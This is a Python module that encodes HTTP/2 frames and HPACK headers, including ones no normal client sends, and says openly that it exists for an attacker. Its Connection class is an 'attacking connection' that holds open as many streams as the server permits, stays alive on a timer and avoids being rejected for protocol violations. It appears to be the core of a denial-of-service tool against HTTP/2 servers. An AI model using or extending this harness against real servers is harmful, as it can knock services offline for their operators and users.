"""HTTP/2 frames and HPACK as far as an attacker needs them. Encodes everything, including what no normal client sends,
and reads frames without decoding their headers."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
PRIORITY_UPDATE = 16

END_STREAM = ACK = 0x1
END_HEADERS = 0x4

# Identifiers of settings.
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE = range(1, 7)

MAX_FRAME = 16384


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(values=None):
    payload = b"".join(struct.pack(">HI", key, value) for key, value in (values or {}).items())
    return frame(SETTINGS, 0, 0, payload)


def window_update(stream, size):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def integer(value, bits, first):
    """An HPACK integer with a prefix of `bits` bits; `first` holds the bits before it."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    encoded = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    encoded.append(value)
    return bytes(encoded)


def string(value):
    if isinstance(value, str):
        value = value.encode()
    return integer(len(value), 7, 0) + value


def literal(name, value, remember=False):
    """A header field with a literal name; `remember` adds it to the dynamic table."""
    return (b"\x40" if remember else b"\x00") + string(name) + string(value)


def indexed(index):
    """A header field of the static table (1 to 61) or the dynamic one (62 is its newest entry)."""
    return integer(index, 7, 0x80)


NEWEST = indexed(62)
METHODS = {"GET": indexed(2), "POST": indexed(3)}
SCHEMES = {"http": indexed(6), "https": indexed(7)}


def request(method, path, authority, headers=(), scheme="http"):
    """The header block of a request; the path is not remembered."""
    block = METHODS.get(method) or literal(":method", method)
    block += SCHEMES[scheme] + literal(":path", path) + literal(":authority", authority)
    for name, value in headers:
        block += literal(name, value)
    return block


def head(stream, block, end_stream=True):
    """HEADERS, followed by CONTINUATION if the block does not fit in one frame."""
    first, rest = block[:MAX_FRAME], block[MAX_FRAME:]
    flags = (END_STREAM if end_stream else 0) | (0 if rest else END_HEADERS)
    frames = frame(HEADERS, flags, stream, first)
    while rest:
        piece, rest = rest[:MAX_FRAME], rest[MAX_FRAME:]
        frames += frame(CONTINUATION, 0 if rest else END_HEADERS, stream, piece)
    return frames


class FrameReader:
    """Splits received bytes into frames."""

    def __init__(self):
        self.buffer = bytearray()

    def feed(self, data):
        self.buffer += data
        frames = []
        at = 0
        while len(self.buffer) - at >= 9:
            size = int.from_bytes(self.buffer[at : at + 3], "big")
            if len(self.buffer) - at < 9 + size:
                break
            kind, flags = self.buffer[at + 3], self.buffer[at + 4]
            stream = int.from_bytes(self.buffer[at + 5 : at + 9], "big") & 0x7FFFFFFF
            frames.append((kind, flags, stream, bytes(self.buffer[at + 9 : at + 9 + size])))
            at += 9 + size
        del self.buffer[:at]
        return frames


class Connection:
    """One attacking connection. It respects the number of streams and the header size that the server announces, so
    that the server can't reject it for a protocol violation. `open_stream(connection, stream)` returns the bytes that
    open one more stream, and `tick(connection)` the bytes sent every few seconds to stay alive."""

    def __init__(self, counts, open_stream, streams, own_settings=None, tick=None, opening=b""):
        self.counts = counts
        self.make_stream = open_stream
        self.wanted = streams
        self.own_settings = own_settings
        self.make_tick = tick
        self.more_opening = opening
        self.reader = FrameReader()
        self.limit = None
        self.head_limit = 1 << 30
        self.next_stream = 1
        self.open = set()
        self.is_going_away = False

    def opening(self):
        return PREFACE + settings(self.own_settings) + self.more_opening

    def fill(self):
        out = []
        if self.is_going_away:
            return b""
        while len(self.open) < min(self.wanted, self.limit) and self.next_stream < 1 << 30:
            self.open.add(self.next_stream)
            out.append(self.make_stream(self, self.next_stream))
            self.next_stream += 2
        self.counts["streams"] += len(out)
        return b"".join(out)

    def received(self, data):
        out = b""
        for kind, flags, stream, payload in self.reader.feed(data):
            if kind == SETTINGS and not flags & ACK:
                self.read_settings(payload)
                out += frame(SETTINGS, ACK)
            elif kind == PING and not flags & ACK:
                out += frame(PING, ACK, 0, payload)
            elif kind == GOAWAY:
                self.counts["goaway"] += 1
                self.is_going_away = True
            elif kind == RST_STREAM:
                self.counts["reset"] += 1
                self.open.discard(stream)
            if kind == DATA and payload:
                out += window_update(0, len(payload))
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                self.counts["answered"] += 1
                self.open.discard(stream)
        return out + self.fill() if self.limit is not None else out

    def read_settings(self, payload):
        self.limit = self.limit or 1000
        for at in range(0, len(payload) - 5, 6):
            key, value = struct.unpack(">HI", payload[at : at + 6])
            if key == MAX_CONCURRENT_STREAMS:
                self.limit = value
            elif key == MAX_HEADER_LIST_SIZE:
                self.head_limit = value

    def tick(self):
        return self.make_tick(self) if self.make_tick else b""
